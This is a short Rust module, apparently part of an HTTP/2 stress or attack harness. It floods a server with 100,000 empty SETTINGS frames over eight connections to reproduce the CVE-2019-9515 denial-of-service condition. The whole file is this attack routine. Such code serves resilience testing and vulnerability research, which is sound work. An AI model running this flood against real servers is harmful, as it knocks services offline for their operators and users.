//! SETTINGS flood (CVE-2019-9515): each must be acknowledged.

use super::attacker::{Field, Flood};
use super::frames::{Frames, Kind};

const FLOOD: Flood = Flood { connections: 8, frames: 100_000 };

pub(crate) async fn run(field: &Field) {
    field.flood(FLOOD, |_| |frames: &mut Frames| frames.push(Kind::Settings, 0, 0, &[])).await;
}
